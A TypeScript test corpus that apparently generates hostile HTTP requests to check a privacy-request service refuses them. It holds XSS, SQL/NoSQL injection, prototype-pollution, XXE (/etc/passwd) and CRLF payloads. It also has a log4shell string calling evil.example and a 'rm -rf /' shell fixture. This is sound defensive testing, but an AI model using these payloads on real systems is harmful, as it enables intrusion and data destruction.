import { gzipSync } from 'node:zlib';

/**
 * A corpus of hostile inputs for every public HTTP endpoint of the product,
 * as data: what to send, and how the product must answer. Generated from a few
 * lists (payloads × fields, tokens × links, credentials × operator routes) and
 * the live values of one test run (request ids, tokens, bundles) given as a
 * CorpusContext. hostile-input.spec.ts sends each case and checks the answer is
 * a clean refusal that stores nothing.
 */

/** Which service's HTTP port a case goes to: intake is the public site; the others are internal ports. */
export type Target = 'intake' | 'data' | 'identity' | 'notifications' | 'orchestrator';

export type Family =
  | 'api-field-injection'
  | 'api-nosql-prototype'
  | 'api-types-missing-extra'
  | 'malformed-json'
  | 'content-type'
  | 'oversized'
  | 'form-field-injection'
  | 'form-csrf'
  | 'agent-upload'
  | 'status-tokens'
  | 'verify-and-code'
  | 'download-links'
  | 'processor-callbacks'
  | 'operator-credential'
  | 'operator-queries'
  | 'routes-health-docs'
  | 'protocol-raw';

export interface UploadPart {
  field: string;
  filename: string;
  contentType: string;
  data: Buffer;
}

export type Body =
  /** JSON.stringify(value) as application/json. */
  | { json: unknown }
  /** These exact bytes, with this content type (none when absent). */
  | { raw: string | Buffer; contentType?: string; contentEncoding?: string }
  /** application/x-www-form-urlencoded, fields in order (repeats allowed). */
  | { form: [string, string][] }
  /** multipart/form-data, as a browser sends the request form. */
  | { multipart: [string, string][]; files?: UploadPart[] };

export interface Expectation {
  /** The refusal's status (one of them, when the product may answer either). */
  status: number | number[];
  /** A validation error must name this field: in `fields` (JSON) or as `<field>-error` / `field:` (HTML). */
  field?: string;
  /** Every case with the same key must get the very same status and body (no difference to probe). */
  sameAs?: string;
}

export interface HostileCase {
  family: Family;
  name: string;
  target: Target;
  method: string;
  /** Path and query exactly as sent (no normalisation of `..` or `%2e`). */
  path: string;
  headers?: Record<string, string>;
  body?: Body;
  /** Send the test's CSRF cookie (the form fields carry its token where the case wants a valid one). */
  csrfCookie?: boolean;
  /** A whole HTTP/1.1 request sent as bytes on a socket (for what no HTTP client will send). */
  raw?: string | Buffer;
  /** Refused by Node's HTTP parser before any product code runs: it has no security headers to check. */
  parserLevel?: boolean;
  /** Payload that must never come back unescaped in an HTML page. */
  markup?: string;
  expect: Expectation;
}

/** Live values of the run the cases are built from. */
export interface CorpusContext {
  /** A request awaiting email verification (an email we hold nothing about). */
  pending: { requestId: string; statusToken: string };
  /** A seeded person's access request, completed: its (used) verify token and its download. */
  done: { requestId: string; statusToken: string; usedVerifyToken: string; bundleId: string; downloadToken: string };
  /** Another seeded person's completed access request: their bundle. */
  other: { bundleId: string; downloadToken: string };
  /** A valid CSRF token for the test's CSRF cookie. */
  csrfToken: string;
  operatorToken: string;
  uploadMaxBytes: number;
  /** Signs claims with the product's link key, or with `key` (a forgery). */
  sign(claims: { purpose: string; ref: string; expiresAt: number }, key?: string): string;
  /** A fresh address at example.com nobody holds data on. */
  newEmail(): string;
}

// ─── Payloads ────────────────────────────────────────────────────────────────

export interface Payload {
  name: string;
  value: string;
  /** Whether a free-text field (name, correction) may legitimately take it (it is plain text). */
  plainText: boolean;
  markup?: boolean;
}

const XSS_MARK = 'rf-xss';

/** Strings an attacker types into fields. `plainText` ones are harmless words to a free-text field. */
export const STRING_PAYLOADS: Payload[] = [
  { name: 'script tag', value: `<script>alert("${XSS_MARK}")</script>`, plainText: false, markup: true },
  { name: 'img onerror', value: `<img src=x onerror=alert("${XSS_MARK}")>`, plainText: false, markup: true },
  { name: 'attribute breakout', value: `"><svg onload=alert("${XSS_MARK}")>`, plainText: false, markup: true },
  { name: 'template and EL', value: '{{7*7}}${7*7}<%= 7*7 %>', plainText: false, markup: true },
  { name: 'SQL tautology', value: "' OR '1'='1' --", plainText: true },
  { name: 'SQL stacked query', value: '1; DROP TABLE requests; --', plainText: true },
  { name: 'NoSQL operator as text', value: '{"$gt": ""}', plainText: true },
  { name: '$where as text', value: "'; return true; var x='", plainText: true },
  { name: 'path traversal', value: '../../../../etc/passwd', plainText: true },
  { name: 'windows traversal', value: '..\\..\\..\\windows\\win.ini', plainText: true },
  { name: 'log4shell', value: '${jndi:ldap://evil.example/a}', plainText: true },
  { name: 'null byte', value: 'Ada\u0000Lovelace', plainText: false },
  { name: 'CRLF header injection', value: 'Ada\r\nBcc: victim@example.com', plainText: false },
  { name: 'bare LF', value: 'Ada\nSet-Cookie: rf_injected=1', plainText: false },
  { name: 'RTL override', value: 'Ada\u202eecalevoL', plainText: false },
  { name: 'bidi isolate', value: '\u2066Ada\u2069', plainText: false },
  { name: 'replacement char (undecodable bytes)', value: 'Ada\ufffd', plainText: false },
  { name: 'C1 control', value: 'Ada\u0085Lovelace', plainText: false },
  { name: 'DEL', value: 'Ada\u007f', plainText: false },
  { name: 'only spaces', value: '    ', plainText: false },
  { name: 'empty', value: '', plainText: false },
  { name: 'huge string (20 000 chars)', value: 'A'.repeat(20_000), plainText: false },
];

/** Values of the wrong JSON type, including MongoDB query operators. */
export const VALUE_PAYLOADS: { name: string; value: unknown }[] = [
  { name: '{"$gt":""}', value: { $gt: '' } },
  { name: '{"$ne":null}', value: { $ne: null } },
  { name: '{"$where":…}', value: { $where: 'sleep(5000) || true' } },
  { name: '{"$regex":".*"}', value: { $regex: '.*' } },
  { name: 'array of strings', value: ['a@example.com', 'b@example.com'] },
  { name: 'number', value: 1e308 },
  { name: 'negative zero', value: -0 },
  { name: 'boolean', value: true },
  { name: 'null', value: null },
  { name: 'empty object', value: {} },
];

// ─── Bodies ──────────────────────────────────────────────────────────────────

const NAME = 'Ada Lovelace';

type BaseKind = 'deletion' | 'correction' | 'objection' | 'ccpaAccess' | 'agent' | 'optOut';

function baseBody(kind: BaseKind, email: string): Record<string, unknown> {
  switch (kind) {
    case 'deletion':
      return {
        type: 'deletion',
        jurisdiction: 'GDPR',
        email,
        name: NAME,
        dataPoints: { accountId: 'CUST-1', phone: '+44 20 7946 0000' },
      };
    case 'correction':
      return {
        type: 'correction',
        jurisdiction: 'GDPR',
        email,
        name: NAME,
        corrections: [{ field: 'postalAddress', value: '12 Rue de la Paix, Paris', whatIsWrong: 'Old address' }],
      };
    case 'objection':
      return { type: 'objection', jurisdiction: 'GDPR', email, name: NAME, channels: ['email', 'sms'] };
    case 'ccpaAccess':
      return {
        type: 'access',
        jurisdiction: 'CCPA',
        email,
        name: NAME,
        declaration: { signedName: NAME, acceptPenaltyOfPerjury: true },
      };
    case 'agent':
      return {
        type: 'deletion',
        jurisdiction: 'GDPR',
        email,
        name: NAME,
        agent: { name: 'Grace Hopper', email: 'agent@agency.example', powerOfAttorney: false },
      };
    case 'optOut':
      return { type: 'opt_out_sale', jurisdiction: 'CCPA', email };
  }
}

function withPath(body: Record<string, unknown>, path: string, value: unknown): Record<string, unknown> {
  const copy = JSON.parse(JSON.stringify(body)) as Record<string, unknown>;
  const keys = path.split('.');
  let at: Record<string, unknown> = copy;
  for (const key of keys.slice(0, -1)) at = at[key] as Record<string, unknown>;
  at[keys[keys.length - 1]] = value;
  return copy;
}

function withoutPath(body: Record<string, unknown>, path: string): Record<string, unknown> {
  const copy = JSON.parse(JSON.stringify(body)) as Record<string, unknown>;
  const keys = path.split('.');
  let at: Record<string, unknown> = copy;
  for (const key of keys.slice(0, -1)) at = at[key] as Record<string, unknown>;
  delete at[keys[keys.length - 1]];
  return copy;
}

/** The smallest file each magic-number check recognises. */
export const FILES = {
  pdf: Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n'),
  png: Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex'),
  jpeg: Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex'),
  script: Buffer.from(`<script>alert("${XSS_MARK}")</script>\n`),
  html: Buffer.from(`<!doctype html><title>x</title><img src=x onerror=alert("${XSS_MARK}")>`),
  svg: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${XSS_MARK}')"/>`),
  elf: Buffer.from('7f454c46020101000000000000000000', 'hex'),
  zip: Buffer.from('504b030414000000080000000000', 'hex'),
  shell: Buffer.from('#!/bin/sh\nrm -rf / --no-preserve-root\n'),
};

// ─── The corpus ──────────────────────────────────────────────────────────────

/** Fields of the JSON API: where each lives, which body it belongs in, and whether it is free text. */
const API_FIELDS: { path: string; base: BaseKind; freeText?: boolean; boolean?: boolean; optional?: boolean }[] = [
  { path: 'type', base: 'deletion' },
  { path: 'jurisdiction', base: 'deletion' },
  { path: 'email', base: 'deletion' },
  { path: 'name', base: 'deletion', freeText: true },
  { path: 'dataPoints.accountId', base: 'deletion', optional: true },
  { path: 'dataPoints.phone', base: 'deletion', optional: true },
  { path: 'corrections.0.field', base: 'correction' },
  { path: 'corrections.0.value', base: 'correction', freeText: true },
  { path: 'corrections.0.whatIsWrong', base: 'correction', freeText: true, optional: true },
  { path: 'channels.0', base: 'objection' },
  { path: 'agent.name', base: 'agent', freeText: true },
  { path: 'agent.email', base: 'agent' },
  { path: 'agent.powerOfAttorney', base: 'agent', boolean: true, optional: true },
  { path: 'declaration.signedName', base: 'ccpaAccess', freeText: true },
  { path: 'declaration.acceptPenaltyOfPerjury', base: 'ccpaAccess', boolean: true },
];

const API = '/api/v1/requests';
const IDEMPOTENCY_KEY = /^[A-Za-z0-9_.:-]{8,255}$/;
/** What Node lets a client put in a header value. */
const HEADER_SAFE = /^[\t\x20-\x7e]*$/;

function apiFieldInjection(ctx: CorpusContext): HostileCase[] {
  const cases: HostileCase[] = [];
  for (const field of API_FIELDS) {
    for (const payload of STRING_PAYLOADS) {
      // A free-text field legitimately takes plain words (they are stored sealed, never interpreted).
      if (field.freeText && payload.plainText) continue;
      cases.push({
        family: 'api-field-injection',
        name: `${field.path} = ${payload.name}`,
        target: 'intake',
        method: 'POST',
        path: API,
        body: { json: withPath(baseBody(field.base, ctx.newEmail()), field.path, payload.value) },
        ...(payload.markup ? { markup: payload.value } : {}),
        // A body over the JSON limit is refused for its size before any field is read.
        expect: payload.value.length > 30_000 ? { status: 413 } : { status: 400, field: field.path },
      });
    }
    for (const payload of VALUE_PAYLOADS) {
      if (field.boolean && typeof payload.value === 'boolean') continue; // a boolean is right there
      if (field.optional && payload.value === null) continue; // null for an optional field means "not given"
      cases.push({
        family: 'api-field-injection',
        name: `${field.path} = ${payload.name}`,
        target: 'intake',
        method: 'POST',
        path: API,
        body: { json: withPath(baseBody(field.base, ctx.newEmail()), field.path, payload.value) },
        expect: { status: 400, field: field.path },
      });
    }
  }
  // The one header the API reads.
  for (const payload of STRING_PAYLOADS) {
    if (!HEADER_SAFE.test(payload.value) || IDEMPOTENCY_KEY.test(payload.value) || payload.value.length > 8_000)
      continue;
    cases.push({
      family: 'api-field-injection',
      name: `Idempotency-Key header = ${payload.name}`,
      target: 'intake',
      method: 'POST',
      path: API,
      headers: { 'idempotency-key': payload.value },
      body: { json: baseBody('deletion', ctx.newEmail()) },
      expect: { status: 400, field: 'Idempotency-Key' },
    });
  }
  return cases;
}

function apiNosqlPrototype(ctx: CorpusContext): HostileCase[] {
  const c = (name: string, body: Body, field?: string): HostileCase => ({
    family: 'api-nosql-prototype',
    name,
    target: 'intake',
    method: 'POST',
    path: API,
    body,
    expect: field === undefined ? { status: 400 } : { status: 400, field },
  });
  const valid = () => baseBody('deletion', ctx.newEmail());
  const rawJson = (extra: string) => {
    const text = JSON.stringify(valid());
    return { raw: `${text.slice(0, -1)},${extra}}`, contentType: 'application/json' };
  };
  return [
    c('top-level $where', { json: { ...valid(), $where: 'sleep(5000)' } }, '$where'),
    c('top-level $or', { json: { ...valid(), $or: [{ email: { $ne: null } }] } }, '$or'),
    c('top-level $set', { json: { ...valid(), $set: { status: 'completed' } } }, '$set'),
    c('$gt inside dataPoints', { json: { ...valid(), dataPoints: { $gt: '' } } }, 'dataPoints'),
    c(
      '$ne inside dataPoints.accountId',
      { json: { ...valid(), dataPoints: { accountId: { $ne: null } } } },
      'dataPoints.accountId',
    ),
    c(
      '$in inside agent',
      { json: { ...baseBody('agent', ctx.newEmail()), agent: { name: 'G', email: { $in: ['a@b.c'] } } } },
      'agent.email',
    ),
    c(
      '$where inside corrections',
      {
        json: { ...baseBody('correction', ctx.newEmail()), corrections: [{ $where: '1', field: 'name', value: 'x' }] },
      },
      'corrections',
    ),
    c('dotted key dataPoints.accountId', { json: { ...valid(), 'dataPoints.accountId': 'x' } }, 'dataPoints.accountId'),
    c('dotted key with operator', { json: { ...valid(), 'email.$': 'x' } }, 'email.$'),
    c('key "$"', { json: { ...valid(), $: 1 } }, '$'),
    c('__proto__ at top level', rawJson('"__proto__":{"polluted":"yes","isAdmin":true}'), '__proto__'),
    c('__proto__ inside dataPoints', rawJson('"dataPoints":{"__proto__":{"polluted":"yes"}}'), 'dataPoints'),
    c(
      '__proto__ inside agent',
      {
        raw: JSON.stringify(baseBody('agent', ctx.newEmail())).replace(
          '"agent":{',
          '"agent":{"__proto__":{"polluted":"yes"},',
        ),
        contentType: 'application/json',
      },
      'agent',
    ),
    c('constructor.prototype', rawJson('"constructor":{"prototype":{"polluted":"yes"}}'), 'constructor'),
    c(
      'nested constructor.prototype',
      rawJson('"dataPoints":{"constructor":{"prototype":{"polluted":"yes"}}}'),
      'dataPoints',
    ),
    c('prototype key', { json: { ...valid(), prototype: { polluted: 'yes' } } }, 'prototype'),
    c('toString overridden', { json: { ...valid(), toString: 'x' } }, 'toString'),
    c('hasOwnProperty overridden', { json: { ...valid(), hasOwnProperty: 1 } }, 'hasOwnProperty'),
    c('valueOf overridden', { json: { ...valid(), valueOf: { $gt: '' } } }, 'valueOf'),
    c(
      'duplicate key: the second is an operator',
      {
        raw: `{"type":"deletion","jurisdiction":"GDPR","name":"Ada","email":"${ctx.newEmail()}","email":{"$gt":""}}`,
        contentType: 'application/json',
      },
      'email',
    ),
    c('duplicate key: __proto__ twice', rawJson('"__proto__":{},"__proto__":{"polluted":"yes"}'), '__proto__'),
    c('key with a NUL byte', rawJson('"na\\u0000me":"Ada"'), 'na\u0000me'),
    c('empty key', rawJson('"":"x"')),
    c('unicode-escaped $where key', rawJson('"\\u0024where":"1"'), '$where'),
    c(
      'operator in a channels array',
      { json: { ...baseBody('objection', ctx.newEmail()), channels: [{ $gt: '' }] } },
      'channels',
    ),
    {
      ...c('Idempotency-Key as an operator', { json: valid() }, 'Idempotency-Key'),
      headers: { 'idempotency-key': '{"$gt":""}' },
    },
  ];
}

function apiTypesMissingExtra(ctx: CorpusContext): HostileCase[] {
  const cases: HostileCase[] = [];
  const add = (name: string, json: unknown, field?: string) =>
    cases.push({
      family: 'api-types-missing-extra',
      name,
      target: 'intake',
      method: 'POST',
      path: API,
      body: { json },
      expect: field === undefined ? { status: 400 } : { status: 400, field },
    });
  // Not an object at all.
  add('body is an array', [baseBody('deletion', ctx.newEmail())], 'body');
  add('body is an empty array', [], 'body');
  add('body is an empty object', {}, 'type');
  // Each required field missing, per kind of request.
  const required: [BaseKind, string[]][] = [
    ['deletion', ['type', 'jurisdiction', 'email', 'name']],
    ['correction', ['corrections', 'corrections.0.field', 'corrections.0.value']],
    ['objection', ['channels']],
    ['ccpaAccess', ['declaration.signedName', 'declaration.acceptPenaltyOfPerjury']],
    ['agent', ['agent.name', 'agent.email']],
    ['optOut', ['email', 'type', 'jurisdiction']],
  ];
  for (const [kind, paths] of required) {
    for (const path of paths) add(`${kind} without ${path}`, withoutPath(baseBody(kind, ctx.newEmail()), path), path);
  }
  // Fields that are the product's to set, never the client's.
  for (const [key, value] of Object.entries({
    status: 'completed',
    requestId: 'req_aaaaaaaaaaaaaaaa',
    verified: true,
    admin: true,
    subjectKey: 'x',
    _id: 'req_aaaaaaaaaaaaaaaa',
    workflowStarted: true,
    dueAt: '2000-01-01T00:00:00Z',
    receivedAt: '1970-01-01T00:00:00Z',
    channel: 'agent',
    timeScale: 1_000_000,
    policy: { approvalRequiredFor: [] },
    legalHold: true,
  })) {
    add(`extra field ${key}`, { ...baseBody('deletion', ctx.newEmail()), [key]: value }, key);
  }
  add(
    'extra nested dataPoints.ssn',
    withPath(baseBody('deletion', ctx.newEmail()), 'dataPoints.ssn', '078-05-1120'),
    'dataPoints.ssn',
  );
  add('extra nested agent.role', withPath(baseBody('agent', ctx.newEmail()), 'agent.role', 'admin'), 'agent.role');
  add(
    'extra nested declaration.signedAt',
    withPath(baseBody('ccpaAccess', ctx.newEmail()), 'declaration.signedAt', '2000-01-01'),
    'declaration.signedAt',
  );
  add(
    'extra nested corrections.0.id',
    withPath(baseBody('correction', ctx.newEmail()), 'corrections.0.id', 1),
    'corrections.0.id',
  );
  // Cross-field rules.
  add(
    'restriction under CCPA (not offered)',
    { ...baseBody('deletion', ctx.newEmail()), type: 'restriction', jurisdiction: 'CCPA' },
    'type',
  );
  add('opt-out under GDPR (not offered)', { ...baseBody('optOut', ctx.newEmail()), jurisdiction: 'GDPR' }, 'type');
  add(
    'corrections on a deletion',
    { ...baseBody('deletion', ctx.newEmail()), corrections: [{ field: 'name', value: 'x' }] },
    'corrections',
  );
  add('channels on a deletion', { ...baseBody('deletion', ctx.newEmail()), channels: ['email'] }, 'channels');
  add(
    'declaration on a GDPR deletion',
    { ...baseBody('deletion', ctx.newEmail()), declaration: { signedName: NAME, acceptPenaltyOfPerjury: true } },
    'declaration',
  );
  add(
    'dataPoints on an opt-out (R04)',
    { ...baseBody('optOut', ctx.newEmail()), dataPoints: { phone: '+1 415 555 0100' } },
    'dataPoints',
  );
  add(
    'agent email is the subject email',
    (() => {
      const email = ctx.newEmail();
      return { ...baseBody('agent', email), agent: { name: 'Grace', email: email.toUpperCase() } };
    })(),
    'agent.email',
  );
  add('empty corrections', { ...baseBody('correction', ctx.newEmail()), corrections: [] }, 'corrections');
  add(
    'eleven corrections',
    {
      ...baseBody('correction', ctx.newEmail()),
      corrections: Array.from({ length: 11 }, () => ({ field: 'name', value: 'x' })),
    },
    'corrections',
  );
  add('empty channels', { ...baseBody('objection', ctx.newEmail()), channels: [] }, 'channels');
  add(
    'channels repeated beyond their number',
    { ...baseBody('objection', ctx.newEmail()), channels: ['email', 'email', 'email', 'email'] },
    'channels',
  );
  add(
    'corrections is an object',
    { ...baseBody('correction', ctx.newEmail()), corrections: { field: 'name', value: 'x' } },
    'corrections',
  );
  add('channels is a string', { ...baseBody('objection', ctx.newEmail()), channels: 'email' }, 'channels');
  add('dataPoints is a string', { ...baseBody('deletion', ctx.newEmail()), dataPoints: 'CUST-1' }, 'dataPoints');
  add('agent is an array', { ...baseBody('deletion', ctx.newEmail()), agent: [] }, 'agent');
  add('dataPoints is an array', { ...baseBody('deletion', ctx.newEmail()), dataPoints: [] }, 'dataPoints');
  add(
    'declaration is an array',
    { ...baseBody('ccpaAccess', ctx.newEmail()), declaration: [{ signedName: NAME, acceptPenaltyOfPerjury: true }] },
    'declaration',
  );
  add('a correction that is an array', { ...baseBody('correction', ctx.newEmail()), corrections: [[]] }, 'corrections');
  add('a correction that is null', { ...baseBody('correction', ctx.newEmail()), corrections: [null] }, 'corrections');
  add(
    'a correction that is a string',
    { ...baseBody('correction', ctx.newEmail()), corrections: ['postalAddress'] },
    'corrections',
  );
  // Email addresses that are not one address.
  for (const [name, email] of [
    ['no domain', 'ada@'],
    ['no local part', '@example.com'],
    ['two addresses, comma', 'a@example.com,b@example.com'],
    ['two addresses, semicolon', 'a@example.com;b@example.com'],
    ['display name with brackets', 'Ada <ada@example.com>'],
    ['trailing CRLF and Bcc', 'ada@example.com\r\nBcc: victim@example.com'],
    ['NUL in the address', 'ada\u0000@example.com'],
    ['RTL override in the address', 'ada\u202e@example.com'],
    ['255 characters', `${'a'.repeat(243)}@example.com`],
    ['IP literal with script', 'ada@[<script>]'],
    ['quoted local part with a script', '"<script>alert(1)</script>"@example.com'],
    ['quoted local part with CR LF', '"a\r\nBcc: victim@example.com"@example.com'],
    ['zero-width joiner in the domain', 'ada@exa\u200dmple.com'],
    ['mailto URL', 'mailto:ada@example.com'],
  ]) {
    add(`email: ${name}`, { ...baseBody('deletion', ''), email }, 'email');
  }
  // Nesting far deeper than any request (written as text: building it as objects would overflow our own stack).
  const nested = (kind: BaseKind, key: string, open: string, close: string, levels: number): Body => {
    const text = JSON.stringify(withoutPath(baseBody(kind, ctx.newEmail()), key));
    return {
      raw: `${text.slice(0, -1)},"${key}":${open.repeat(levels)}"x"${close.repeat(levels)}}`,
      contentType: 'application/json',
    };
  };
  for (const [name, body, field] of [
    ['4 000 levels of objects in dataPoints', nested('deletion', 'dataPoints', '{"a":', '}', 4_000), 'dataPoints'],
    ['8 000 levels of arrays in corrections', nested('correction', 'corrections', '[', ']', 8_000), 'corrections'],
    ['5 000 levels of arrays in agent', nested('deletion', 'agent', '[', ']', 5_000), 'agent'],
  ] as const) {
    cases.push({
      family: 'api-types-missing-extra',
      name,
      target: 'intake',
      method: 'POST',
      path: API,
      body,
      expect: { status: 400, field },
    });
  }
  return cases;
}

function malformedJson(ctx: CorpusContext): HostileCase[] {
  const email = ctx.newEmail();
  const good = JSON.stringify(baseBody('deletion', email));
  const bodies: [string, string | Buffer][] = [
    ['truncated', good.slice(0, 20)],
    ['trailing comma', `${good.slice(0, -1)},}`],
    ['single quotes', good.replace(/"/g, "'")],
    ['NaN', `${good.slice(0, -1)},"x":NaN}`],
    ['Infinity', `${good.slice(0, -1)},"x":Infinity}`],
    ['comment', `/* hi */${good}`],
    ['two documents', `${good}${good}`],
    ['null', 'null'],
    ['a string', '"deletion"'],
    ['a number', '12345'],
    ['true', 'true'],
    ['empty', ''],
    ['whitespace', '   \n\t  '],
    ['unclosed nesting', '['.repeat(30_000)],
    [
      'invalid UTF-8 bytes',
      Buffer.concat([Buffer.from('{"type":"deletion","name":"'), Buffer.from([0xff, 0xfe, 0xfd]), Buffer.from('"}')]),
    ],
    [
      'overlong UTF-8 slash (C0 AF)',
      Buffer.concat([Buffer.from('{"name":"..'), Buffer.from([0xc0, 0xaf]), Buffer.from('etc"}')]),
    ],
    [
      'overlong UTF-8 NUL (C0 80)',
      Buffer.concat([Buffer.from('{"name":"a'), Buffer.from([0xc0, 0x80]), Buffer.from('"}')]),
    ],
    [
      'UTF-16 surrogate as UTF-8 (ED A0 80)',
      Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('"}')]),
    ],
    ['lone surrogate escape', `${good.slice(0, -1)},"x":"\\ud800"}`],
    ['unescaped control character', `{"name":"a\u0001b"}`],
    ['JavaScript, not JSON', '{type: "deletion", email: process.exit()}'],
  ];
  const cases: HostileCase[] = bodies.map(([name, raw]) => ({
    family: 'malformed-json',
    name: `submit: ${name}`,
    target: 'intake',
    method: 'POST',
    path: API,
    body: { raw, contentType: 'application/json' },
    expect: { status: 400 },
  }));
  // The small JSON endpoints parse the same way.
  for (const [name, raw] of bodies.slice(0, 6)) {
    cases.push({
      family: 'malformed-json',
      name: `verification code: ${name}`,
      target: 'intake',
      method: 'POST',
      path: `${API}/${ctx.pending.requestId}/verification-code`,
      body: { raw, contentType: 'application/json' },
      expect: { status: 400 },
    });
    cases.push({
      family: 'malformed-json',
      name: `withdraw: ${name}`,
      target: 'intake',
      method: 'POST',
      path: `${API}/${ctx.pending.requestId}/withdraw`,
      body: { raw, contentType: 'application/json' },
      expect: { status: 400 },
    });
  }
  return cases;
}

function contentTypes(ctx: CorpusContext): HostileCase[] {
  const json = JSON.stringify(baseBody('deletion', ctx.newEmail()));
  const c = (
    name: string,
    body: Body,
    status: number | number[],
    path = API,
    extra: Partial<HostileCase> = {},
  ): HostileCase => ({
    family: 'content-type',
    name,
    target: 'intake',
    method: 'POST',
    path,
    body,
    expect: { status },
    ...extra,
  });
  const form = new URLSearchParams(baseBody('deletion', ctx.newEmail()) as Record<string, string>).toString();
  return [
    c('JSON sent as text/plain', { raw: json, contentType: 'text/plain' }, 415),
    c('JSON with no content type', { raw: json }, 415),
    c(
      'XML with an external entity (XXE)',
      {
        raw: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        contentType: 'application/xml',
      },
      415,
    ),
    c('urlencoded to the JSON API', { raw: form, contentType: 'application/x-www-form-urlencoded' }, 415),
    c('multipart/mixed', { raw: '--b\r\n\r\nx\r\n--b--', contentType: 'multipart/mixed; boundary=b' }, 415),
    c('application/jsonx (not JSON)', { raw: json, contentType: 'application/jsonx' }, 400),
    c('vendor +json type the parser does not read', { raw: json, contentType: 'application/vnd.evil+json' }, 400),
    c('charset latin1', { raw: json, contentType: 'application/json; charset=latin1' }, 415),
    // iconv knows UTF-7: decoded, the body is no JSON (400); either way it is refused.
    c('charset utf-7', { raw: json, contentType: 'application/json; charset=utf-7' }, [400, 415]),
    c('charset with an injection', { raw: json, contentType: 'application/json; charset="utf-8\\"; x=1"' }, [400, 415]),
    c('multipart without a boundary', { raw: 'x', contentType: 'multipart/form-data' }, 400),
    c('multipart with a boundary never used', { raw: 'garbage', contentType: 'multipart/form-data; boundary=zz' }, 400),
    c(
      'multipart cut short',
      {
        raw: '--zz\r\nContent-Disposition: form-data; name="request"\r\n\r\n{}\r\n--zz',
        contentType: 'multipart/form-data; boundary=zz',
      },
      400,
    ),
    c(
      'multipart part without a name',
      {
        raw: '--zz\r\nContent-Disposition: form-data\r\n\r\nx\r\n--zz--\r\n',
        contentType: 'multipart/form-data; boundary=zz',
      },
      400,
    ),
    c('gzip declared, not gzip', { raw: json, contentType: 'application/json', contentEncoding: 'gzip' }, 400),
    c('deflate declared, not deflate', { raw: json, contentType: 'application/json', contentEncoding: 'deflate' }, 400),
    c('unknown content encoding', { raw: json, contentType: 'application/json', contentEncoding: 'compress' }, 415),
    c('JSON to the web form (no CSRF)', { raw: json, contentType: 'application/json' }, 403, '/'),
    c('XML to the web form', { raw: '<r/>', contentType: 'text/xml' }, 403, '/'),
    c(
      'JSON to the verify page',
      { raw: '{"token":"x"}', contentType: 'application/json' },
      403,
      `/verify/${ctx.pending.requestId}`,
    ),
    c(
      'text/plain to the code page',
      { raw: 'code=123456', contentType: 'text/plain' },
      403,
      `/requests/${ctx.pending.requestId}/code`,
    ),
  ];
}

function oversized(ctx: CorpusContext): HostileCase[] {
  const c = (
    name: string,
    path: string,
    body: Body,
    status: number | number[],
    extra: Partial<HostileCase> = {},
  ): HostileCase => ({
    family: 'oversized',
    name,
    target: 'intake',
    method: 'POST',
    path,
    body,
    expect: { status },
    ...extra,
  });
  const pdf = FILES.pdf;
  const agentRequest = JSON.stringify(baseBody('agent', ctx.newEmail()));
  return [
    c(
      'JSON of 40 KB (limit 32 KB)',
      API,
      { json: { ...baseBody('deletion', ctx.newEmail()), name: 'A'.repeat(40_000) } },
      413,
    ),
    c('JSON of 1 MB', API, { json: { ...baseBody('deletion', ctx.newEmail()), name: 'A'.repeat(1_000_000) } }, 413),
    c(
      'JSON of 5 MB of padding keys',
      API,
      {
        raw: `{${Array.from({ length: 100_000 }, (_, i) => `"k${i}":"${'x'.repeat(40)}"`).join(',')}}`,
        contentType: 'application/json',
      },
      413,
    ),
    c(
      'gzip bomb (5 MB inflated)',
      API,
      { raw: gzipOf(`{"name":"${' '.repeat(5_000_000)}"}`), contentType: 'application/json', contentEncoding: 'gzip' },
      413,
    ),
    c(
      'verify form of 9 KB (limit 8 KB)',
      `/verify/${ctx.pending.requestId}`,
      {
        form: [
          ['_csrf', ctx.csrfToken],
          ['token', 'A'.repeat(9_000)],
        ],
      },
      413,
      { csrfCookie: true },
    ),
    c(
      'code form of 100 KB',
      `/requests/${ctx.pending.requestId}/code`,
      {
        form: [
          ['_csrf', ctx.csrfToken],
          ['code', '1'.repeat(100_000)],
        ],
      },
      413,
      { csrfCookie: true },
    ),
    c(
      'withdraw form of 1 MB',
      `/status/${ctx.pending.requestId}/withdraw`,
      {
        form: [
          ['_csrf', ctx.csrfToken],
          ['token', 'A'.repeat(1_000_000)],
        ],
      },
      413,
      { csrfCookie: true },
    ),
    c(
      'verify form with 25 parameters (limit 20)',
      `/verify/${ctx.pending.requestId}`,
      { form: Array.from({ length: 25 }, (_, i) => [`p${i}`, 'x'] as [string, string]) },
      413,
      { csrfCookie: true },
    ),
    c(
      'web form with 45 fields (limit 40)',
      '/',
      {
        multipart: [
          ['_csrf', ctx.csrfToken],
          ...Array.from({ length: 44 }, (_, i) => [`f${i}`, 'x'] as [string, string]),
        ],
      },
      [400, 413],
      { csrfCookie: true },
    ),
    c(
      'web form field of 70 KB (limit 64 KB)',
      '/',
      {
        multipart: [
          ['_csrf', ctx.csrfToken],
          ['type', 'deletion'],
          ['jurisdiction', 'GDPR'],
          ['email', ctx.newEmail()],
          ['name', 'A'.repeat(70_000)],
        ],
      },
      [400, 413],
      { csrfCookie: true },
    ),
    c(
      'API multipart request part of 70 KB',
      API,
      {
        multipart: [['request', `{"name":"${'A'.repeat(70_000)}"}`]],
        files: [{ field: 'permission', filename: 'p.pdf', contentType: 'application/pdf', data: pdf }],
      },
      [400, 413],
    ),
    c(
      'agent permission one KB over the limit (API)',
      API,
      {
        multipart: [['request', agentRequest]],
        files: [
          {
            field: 'permission',
            filename: 'permission.pdf',
            contentType: 'application/pdf',
            data: Buffer.concat([pdf, Buffer.alloc(ctx.uploadMaxBytes + 1024 - pdf.length, 0x20)]),
          },
        ],
      },
      413,
    ),
    c(
      'agent permission of 3 MB (web form)',
      '/',
      {
        multipart: agentFormFields(ctx, {}),
        files: [
          {
            field: 'permission',
            filename: 'permission.pdf',
            contentType: 'application/pdf',
            data: Buffer.concat([pdf, Buffer.alloc(3_000_000, 0x20)]),
          },
        ],
      },
      413,
      { csrfCookie: true },
    ),
    c(
      'processor callback of 20 KB (limit 16 KB)',
      '/processors/callback/0a1b2c3d-4e5f-4a6b-a7c8-9d0e1f2a3b4c?token=x',
